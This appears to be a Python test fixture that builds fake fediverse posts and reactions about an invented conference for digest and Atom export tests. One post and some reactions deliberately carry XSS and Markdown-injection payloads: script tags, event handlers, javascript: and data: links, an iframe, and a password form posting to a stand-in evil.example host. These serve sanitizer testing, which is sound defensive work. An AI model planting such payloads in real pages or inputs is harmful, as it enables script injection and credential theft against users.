"""A realistic DigestData for digest and Atom tests, written for these tests.

Thirty posts about a made-up conference (#bsnopen) on two instances over two days: a reply
thread six posts long, an orphan reply, an edited post, a deleted post, a content warning,
Mastodon-style link markup, an image, a hostile post (script, event handlers, javascript:
and data: links, iframe, style, svg) and Markdown-injection text, plus four reactions.
"""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime, timedelta

from bsarchive.export.digest import (
    DigestCounts,
    DigestData,
    DigestPost,
    DigestReaction,
)

START = datetime(2025, 11, 20, 8, 0, tzinfo=UTC)
A = "bsn.example.social"
B = "toot.example.org"

PEOPLE = {
    "@ada@bsn.example.social": "Ada Quill",
    "@bruno@bsn.example.social": "Bruno Keller",
    "@chidi@toot.example.org": "Chidi Okafor",
    "@dana@toot.example.org": "Dana Ruiz",
    "@emil@bsn.example.social": "Emil Sørensen",
    "@farah@toot.example.org": "",  # no display name set
    "@mallory@toot.example.org": "Mallory <b>*Admin*</b>",
}

HASHTAG = (
    '<a href="https://{host}/tags/bsnopen" class="mention hashtag" rel="tag">'
    "#<span>bsnopen</span></a>"
)

HOSTILE_HTML = (
    "<p>Free tickets!<script>alert(1)</script></p>"
    '<p><img src=x onerror=alert(1)><a href="javascript:alert(1)">claim here</a> '
    '<a href="data:text/html,&lt;script&gt;alert(2)&lt;/script&gt;">or here</a> '
    '<a href="https://tickets.example.net/claim" onclick="steal()" style="color:red">'
    "real link</a></p>"
    '<iframe src="https://evil.example/frame">framed</iframe>'
    "<style>body{display:none}</style>"
    '<svg onload="alert(3)"><circle r="5"/></svg>'
    '<form action="https://evil.example/"><input name="pw"></form>'
    '<p onmouseover="alert(4)">Hover me</p>'
)

HOSTILE_TEXT = (
    "# Heading *bold* _under_ [click](javascript:alert(1)) <b>x</b> | cell | `code`\n"
    "1. list\n> quote\n![img](https://evil.example/x.png) &copy; ~~strike~~\x0b end"
)


def _post(
    n: int,
    minutes: int,
    author: str,
    text: str,
    *,
    html: str | None = None,
    reply_to: int | str | None = None,
    boosts: int = 0,
    replies: int = 0,
    favourites: int = 0,
    links: tuple[str, ...] = (),
    deleted: bool = False,
    edited: bool = False,
    spoiler: str = "",
    language: str | None = "en",
    also: tuple[str, ...] = (),
) -> DigestPost:
    host = author.rsplit("@", 1)[1]
    user = author.split("@")[1]
    uri = f"https://{host}/users/{user}/statuses/1155{n:05d}"
    if isinstance(reply_to, int):
        parent: str | None = POST_URIS[reply_to]
    else:
        parent = reply_to
    if html is None:
        paragraphs = "".join(f"<p>{line}</p>" for line in text.split("\n\n"))
        html = paragraphs + f"<p>{HASHTAG.format(host=host)}</p>"
    seen = (host,) if n % 3 else (A, B)
    return DigestPost(
        uri=uri,
        url=f"https://{host}/@{user}/1155{n:05d}",
        created_at=START + timedelta(minutes=minutes),
        author=author,
        author_name=PEOPLE[author],
        content_html=html,
        text=text,
        tags=("bsnopen",),
        links=links,
        in_reply_to=parent,
        boosts=boosts,
        replies=replies,
        favourites=favourites,
        seen_on=seen,
        deleted=deleted,
        edited=edited,
        also_posted_by=also,
        spoiler_text=spoiler,
        language=language,
    )


def _uri(n: int, author: str) -> str:
    host = author.rsplit("@", 1)[1]
    user = author.split("@")[1]
    return f"https://{host}/users/{user}/statuses/1155{n:05d}"


# Uris of thread parents, known before the posts are built.
POST_URIS = {
    5: _uri(5, "@ada@bsn.example.social"),
    6: _uri(6, "@bruno@bsn.example.social"),
    7: _uri(7, "@ada@bsn.example.social"),
    9: _uri(9, "@dana@toot.example.org"),
}

LINK_SLIDES = "https://slides.example.com/bsnopen-2025/keynote"
LINK_BLOG = "https://blog.example.org/2025/11/bsnopen-day-one?utm_source=mastodon"
LINK_VIDEO = "https://video.example.net/w/9f2c1e"


def build_posts() -> list[DigestPost]:
    ada, bruno = "@ada@bsn.example.social", "@bruno@bsn.example.social"
    chidi, dana = "@chidi@toot.example.org", "@dana@toot.example.org"
    emil, farah = "@emil@bsn.example.social", "@farah@toot.example.org"
    mallory = "@mallory@toot.example.org"
    long_link = (
        '<p>Slides are up: <a href="https://slides.example.com/bsnopen-2025/keynote" '
        'rel="nofollow noopener noreferrer" target="_blank"><span class="invisible">https://'
        '</span><span class="ellipsis">slides.example.com/bsnopen-202</span>'
        '<span class="invisible">5/keynote</span></a></p>'
    )
    posts = [
        _post(1, 5, ada, "Doors open at #bsnopen, coffee is excellent.", favourites=4),
        _post(2, 12, chidi, "Arrived in Lyon for #bsnopen. Who else is here?", replies=1),
        _post(3, 31, bruno, "Keynote starts in 30 minutes, hall A.", boosts=6, favourites=9),
        _post(
            4,
            58,
            emil,
            "Slides are up: slides.example.com/bsnopen-202…",
            html=long_link,
            links=(LINK_SLIDES,),
            boosts=12,
            favourites=20,
        ),
        _post(5, 64, ada, "Keynote: open data needs open governance.", boosts=9, replies=2),
        _post(6, 70, bruno, "Agreed, and funding too.", reply_to=5, replies=1),
        _post(7, 75, ada, "Funding is governance, in the end.", reply_to=6, replies=1),
        _post(8, 81, chidi, "Does anyone have the paper mentioned?", reply_to=5),
        _post(9, 90, dana, "It is linked on slide 4.", reply_to=7, replies=1),
        _post(10, 96, farah, "Thanks!", reply_to=9, language=None),
        _post(
            11,
            101,
            dana,
            "Replying to a post from another server.",
            reply_to="https://elsewhere.example/users/zed/statuses/42",
        ),
        _post(
            12,
            118,
            emil,
            "Lunch queue is long; the vegan option is worth it.",
            edited=True,
            favourites=2,
        ),
        _post(13, 131, farah, "This was a mistake.", deleted=True, boosts=3),
        _post(
            14,
            140,
            dana,
            "Workshop photos",
            html='<p>Workshop photos</p><p><img src="https://files.example.org/media/w1.jpg"'
            ' alt="people around a whiteboard"></p>',
            boosts=2,
        ),
        _post(15, 155, mallory, HOSTILE_TEXT, html=HOSTILE_HTML, boosts=1),
        _post(
            16,
            170,
            chidi,
            "Day one write-up: " + LINK_BLOG,
            links=(LINK_BLOG,),
            boosts=4,
            favourites=7,
        ),
        _post(
            17,
            188,
            bruno,
            "Hallway track > talks, as always.",
            spoiler="conference opinions",
            favourites=3,
        ),
        _post(18, 204, ada, "Panel on archiving the fediverse, room 2.", boosts=5),
        _post(
            19,
            216,
            emil,
            "Recording of the keynote: " + LINK_VIDEO,
            links=(LINK_VIDEO, LINK_SLIDES),
            boosts=8,
            also=("@bsnbot@bsn.example.social",),
        ),
        _post(
            20, 230, dana, "Über-useful session on Unicode: naïve café ☕ 日本語.", language="de"
        ),
        _post(21, 250, farah, "Day one done. Dinner?"),
        # Day two, after a quiet night.
        _post(22, 24 * 60 + 30, ada, "Day two of #bsnopen! Sprints today.", boosts=3),
        _post(23, 24 * 60 + 42, chidi, "Sprint table 3 is fixing the docs.\n\nJoin us!"),
        _post(24, 24 * 60 + 65, bruno, "Write-up: " + LINK_BLOG, links=(LINK_BLOG,)),
        _post(25, 24 * 60 + 80, emil, "Slides again: " + LINK_SLIDES, links=(LINK_SLIDES,)),
        _post(26, 24 * 60 + 95, dana, "Closing remarks now."),
        _post(27, 24 * 60 + 110, ada, "Thank you all, see you next year.", boosts=7),
        _post(28, 24 * 60 + 140, farah, "Travelling home.", language=None),
        _post(29, 24 * 60 + 170, chidi, "Notes: *star* _underscore_ and a | pipe."),
        _post(30, 24 * 60 + 200, bruno, "Last one from #bsnopen.", favourites=1),
    ]
    return posts


def build_reactions() -> list[DigestReaction]:
    return [
        DigestReaction(
            url="https://blog.example.org/2025/11/bsnopen-day-one",
            title="BSN Open, day one: governance and coffee",
            author="Chidi Okafor",
            site_name="Chidi's notebook",
            published_at=datetime(2025, 11, 20, 19, 30, tzinfo=UTC),
            excerpt="The keynote argued that open data needs open governance. Here is what "
            "I took away from it.",
            comment_count=4,
            linked_from_count=2,
            tags=("bsnopen", "conferences"),
        ),
        DigestReaction(
            url="https://news.example.com/tech/bsnopen-2025-recap",
            title="Recap: <script>alert('t')</script> *BSN* [Open] 2025",
            author="Staff | Newsroom",
            site_name="Example News",
            published_at=datetime(2025, 11, 21, 17, 0, tzinfo=UTC),
            excerpt="<b>Two days</b> of talks & sprints; 1. not a list",
            comment_count=0,
            linked_from_count=1,
        ),
        DigestReaction(
            url="https://dana.example.net/posts/unicode-at-bsnopen",
            title="Unicode at BSN Open",
            author="Dana Ruiz",
            site_name="",
            published_at=None,
            excerpt="",
            comment_count=2,
            linked_from_count=0,
        ),
        DigestReaction(
            url="javascript:alert(5)",
            title="A reaction whose URL is not a web link",
            author="",
            site_name="Nowhere",
            published_at=datetime(2025, 11, 21, 9, 0, tzinfo=UTC),
            excerpt="Shown without a link.",
            comment_count=1,
            linked_from_count=0,
        ),
    ]


def build_data(generated_at: datetime | None = None) -> DigestData:
    """The fixture digest; counts and top lists computed the way the store query would."""
    posts = build_posts()
    reactions = build_reactions()
    voices = Counter(post.author for post in posts)
    top_voices = sorted(voices.items(), key=lambda item: (-item[1], item[0]))
    links = Counter(link for post in posts for link in post.links)
    top_links = sorted(links.items(), key=lambda item: (-item[1], item[0]))
    return DigestData(
        title="BSN Open 2025",
        tags=("bsnopen",),
        since=datetime(2025, 11, 20, 0, 0, tzinfo=UTC),
        until=datetime(2025, 11, 22, 0, 0, tzinfo=UTC),
        posts=posts,
        reactions=reactions,
        counts=DigestCounts(
            posts=len(posts),
            people=len(voices),
            instances=2,
            reactions=len(reactions),
            comments=sum(r.comment_count for r in reactions),
            boosts=sum(post.boosts for post in posts),
        ),
        top_voices=[(author, PEOPLE[author], count) for author, count in top_voices],
        top_links=top_links,
        generated_at=generated_at,
    )
